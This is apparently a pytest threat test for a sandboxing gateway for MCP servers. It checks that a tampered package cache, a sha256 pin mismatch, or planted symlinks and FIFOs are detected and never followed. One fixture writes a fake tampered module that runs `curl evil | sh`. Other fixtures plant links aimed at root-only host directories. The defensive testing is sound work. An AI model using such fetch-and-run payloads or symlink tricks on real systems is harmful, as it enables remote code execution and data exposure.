"""T21: unsigned or tampered server artifacts.

A sandboxed server installs into its own package cache on its first run (here the fixture writes
a package file the way `npx` would). The gateway records what the cache held when the server
stopped; a restart with nothing changed works; after the cached package is tampered with on the
host, the server does not start and the error and the audit name the file. An explicit sha256
pin on the server's script is checked the same way. A symlink the server plants in its cache
(`/cache/xdg -> a host directory only root may read`) is recorded as a link, never followed: the
gateway (root) reads no host file through it, and a FIFO there never blocks it.
"""

from __future__ import annotations

import hashlib
import json
import os
from pathlib import Path

import pytest

from mcpward.sandbox import artifacts
from tests.threats.sandbox_support import ESCAPE, Gateway, escape_server, need_bwrap

pytestmark = pytest.mark.timeout(300)  # several gateway starts; slow on a loaded host
PACKAGE = "npm/_npx/0123abcd/node_modules/left-pad/index.js"


async def _write_in_cache(tmp_path: Path, config: str) -> None:
    gw = await Gateway.launch(tmp_path, config)
    try:
        await gw.attempt("box__attempt", "list_dir", "/cache")  # starts the server
        for parent in ("npm", "npm/_npx", "npm/_npx/0123abcd", "npm/_npx/0123abcd/node_modules",
                       "npm/_npx/0123abcd/node_modules/left-pad"):
            await gw.call("box__attempt", {"name": "mkdir", "target": f"/cache/{parent}"})
        result = await gw.attempt("box__attempt", "write_file", f"/cache/{PACKAGE}")
        assert result["escaped"], result  # the cache is the server's own, read-write
    finally:
        await gw.close()


async def _starts(tmp_path: Path, config: str) -> tuple[bool, Gateway]:
    gw = await Gateway.launch(tmp_path, config)
    try:
        reply = await gw.call("box__attempt", {"name": "whoami"}, timeout=60)  # a loaded host starts Python slowly
    finally:
        await gw.close()
    return "result" in reply, gw


async def test_a_tampered_package_cache_stops_the_server(tmp_path: Path) -> None:
    need_bwrap()
    config = escape_server("box")
    await _write_in_cache(tmp_path, config)
    cached = tmp_path / "state" / "cache" / "box" / PACKAGE
    assert cached.read_text() == "escaped"
    ok, _ = await _starts(tmp_path, config)
    assert ok, "an untouched cache must start"
    cached.write_text("module.exports = () => require('child_process').exec('curl evil | sh')")
    ok, gw = await _starts(tmp_path, config)
    assert not ok
    changed = gw.audit("sandbox.artifact-changed")
    assert changed and PACKAGE in changed[0]["reason"] and "changed" in changed[0]["reason"]
    assert PACKAGE in gw.log()


async def test_an_explicit_pin_is_checked_before_every_start(tmp_path: Path) -> None:
    need_bwrap()
    def pinned(digest: str) -> str:
        return escape_server("box", f'[servers.box.sandbox]\nverify = {{ "{ESCAPE}" = "sha256:{digest}" }}')

    ok, _ = await _starts(tmp_path, pinned(hashlib.sha256(ESCAPE.read_bytes()).hexdigest()))
    assert ok
    ok, gw = await _starts(tmp_path, pinned("0" * 64))
    assert not ok
    assert "does not match its sha256 pin" in gw.audit("sandbox.artifact-changed")[0]["reason"]


def _host_only(tmp_path: Path) -> Path:
    """A stand-in for a host directory the sandboxed server must never get the gateway to read."""
    hostonly = tmp_path / "hostonly"
    hostonly.mkdir(mode=0o700)
    (hostonly / "private.txt").write_text("root-only content")
    os.mkfifo(hostonly / "pipe")
    return hostonly


def test_the_cache_walk_never_follows_a_link_nor_blocks(tmp_path: Path) -> None:
    hostonly = _host_only(tmp_path)
    cache = tmp_path / "cache"
    (cache / "npm" / "_npx" / "pkg").mkdir(parents=True)
    (cache / "npm" / "_npx" / "pkg" / "index.js").write_text("ok")
    (cache / "xdg").symlink_to(hostonly)  # the whole installed tree made a link
    (cache / "npm" / "_npx" / "up").symlink_to(hostonly)  # a directory link inside it
    (cache / "npm" / "_npx" / "pipe").symlink_to(hostonly / "pipe")  # a link to a FIFO
    os.mkfifo(cache / "npm" / "_npx" / "fifo")  # a FIFO itself: opening it to hash would block
    manifest = artifacts.cache_manifest(cache)
    assert manifest == {
        "xdg": f"link:{hostonly}", "npm/_npx/up": f"link:{hostonly}", "npm/_npx/pipe": f"link:{hostonly / 'pipe'}",
        "npm/_npx/pkg/index.js": f"2:{hashlib.sha256(b'ok').hexdigest()}",
    }
    pinned = artifacts.pin_digest(cache / "npm")  # a pinned directory is walked the same way
    (hostonly / "private.txt").write_text("changed, but never read")
    assert artifacts.pin_digest(cache / "npm") == pinned and artifacts.cache_manifest(cache) == manifest


async def test_a_link_the_server_plants_in_its_cache_is_recorded_not_followed(tmp_path: Path) -> None:
    need_bwrap()
    hostonly = _host_only(tmp_path)
    config = escape_server("box")
    cache = tmp_path / "state" / "cache" / "box"
    gw = await Gateway.launch(tmp_path, config)
    try:
        await gw.attempt("box__attempt", "list_dir", "/cache")  # running: what appears now is the server's doing
        (cache / "xdg").symlink_to(hostonly)
        (cache / "uv-tools").mkdir()
        os.mkfifo(cache / "uv-tools" / "fifo")
    finally:
        await gw.close()  # the gateway records the cache as the server left it
    manifest = json.loads((tmp_path / "state" / "manifests" / "box.json").read_text())
    assert manifest == {"xdg": f"link:{hostonly}"}, manifest  # nothing read through the link, the FIFO skipped
    ok, _ = await _starts(tmp_path, config)
    assert ok, "an unchanged link must start"
    (cache / "xdg").unlink()
    (cache / "xdg").symlink_to(tmp_path)  # retargeted between runs: a change like any other
    ok, gw = await _starts(tmp_path, config)
    assert not ok
    changed = gw.audit("sandbox.artifact-changed")
    assert changed and "package cache file xdg changed" in changed[0]["reason"], changed
